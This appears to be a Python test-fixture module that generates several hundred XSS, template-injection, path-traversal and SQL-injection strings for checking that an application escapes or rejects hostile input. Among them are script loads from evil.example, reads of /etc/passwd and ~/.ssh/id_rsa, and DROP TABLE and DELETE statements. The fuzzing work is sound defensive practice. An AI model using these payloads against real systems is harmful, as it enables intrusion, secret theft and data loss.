"""Texts that would run, reach out, read or change something where a page, a template, a path or a query took them for code."""

from itertools import product

ACTIONS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:parent.alert(1)></iframe>",
    "<details open ontoggle=alert(1)>x</details>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<a href=javascript:alert(1) autofocus>x</a>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<div hx-get='//evil.example/' hx-trigger=load>x</div>", "<div hx-on:load=alert(1) hx-trigger=load>x</div>",
    "<div hx-get=/ hx-trigger='load[alert(1)]'>x</div>", "<div data-hx-get=/ hx-vals='js:{a:alert(1)}' hx-trigger=load>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
    "<p style='background:url(//evil.example/x)'>x</p>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<img src=//evil.example/x.png>", "<select autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>",
)  # fmt: skip
BREAKS = (
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</svg>", "</pre></code>", "</table>",
    "</noscript>", "\\\"", "&quot;>", "`",
)  # fmt: skip
BARE = (
    '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus '", '" autofocus onfocus="alert(1)', "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)", "//evil.example/", "&#106;avascript:alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028alert(1)\u2029", "<scr\0ipt>alert(1)</scr\0ipt>", "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>", "＜script＞alert(1)＜/script＞", "{{7*7}}{% include 'x' %}", "{{ self.__init__.__globals__ }}",
    "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "\u202e<tpircs>", "\x1b]0;title\x07\x1b[2J", "</body></html><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x onload=alert(1)/>",
    "\ufeff<script>alert(1)</script>", "';alert(1)//", '";alert(1)//', "</script><script>alert(1)</script>", "constructor.constructor('alert(1)')()",
)  # fmt: skip


def scripts() -> list[str]:
    """Some 660 texts that a page must show as they are."""
    return [*BARE, *(f"{end}{action}" for end, action in product(BREAKS, ACTIONS))]


_UP = (
    "../",
    "..\\",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%2f",
    "..%5c",
    "%252e%252e%252f",
    "....//",
    "..;/",
    "%c0%ae%c0%ae/",
    "\u2024\u2024/",
)
_FILES = (
    "etc/passwd",
    "proc/self/environ",
    "notebook.db",
    "static/../app.py",
    "pages/base.html",
    "guard.py",
    ".git/config",
)
_ROOTS = ("/etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini", "\\\\evil.example\\share", "http://198.51.100.7/x", "//evil.example/x",
          "~/.ssh/id_rsa", "/dev/zero", "\0/etc/passwd", "static/review.css/../../app.py", "review.css\0.svg", "php://filter/x")  # fmt: skip


def paths() -> list[str]:
    """300 texts that lead out of a folder where they are taken for a path."""
    found = [f"{up * depth}{file}" for depth, up, file in product((1, 3, 8, 12), _UP, _FILES)]
    return [*_ROOTS, *found][:300]


_QUERIES = ("1=1", "DROP TABLE run", "UPDATE verdict SET outcome='SUPPORTED'", "DELETE FROM ledger", "SELECT sql FROM sqlite_master",
            "ATTACH DATABASE '/tmp/x.db' AS x", "SELECT load_extension('x')", "SELECT pg_sleep(9)", "COPY run TO '/tmp/x'",
            "PRAGMA writable_schema=1")  # fmt: skip
_FORMS = ("' OR {} --", '" OR {} --', "'; {}; --", "1; {}", "') OR ({}) --", "' UNION {} --", "%' AND {} --", "\\'; {}; --", "'||({})||'",
          "/**/{}/**/", "{}", "status:supported' OR {} --", "layer:1;{}", "unit:8.481' UNION {} --", "run:x'); {}; --", "side:reads%27;{}--",
          "author:a','b'); {}; --", "\"; {}; \"", "* OR {}", "NEAR(a b, 9) {}", "-{}", "claim:({})", "a AND b OR NOT {}", "^{}", "\"{}",
          "'{}", "({}", "{})", "{}\0", "x\" NEAR \"{}")  # fmt: skip


def queries() -> list[str]:
    """300 texts that read or change a table where they are taken for SQL, or break a search where they are taken for its language."""
    return [form.format(query) for form, query in product(_FORMS, _QUERIES)][:300]
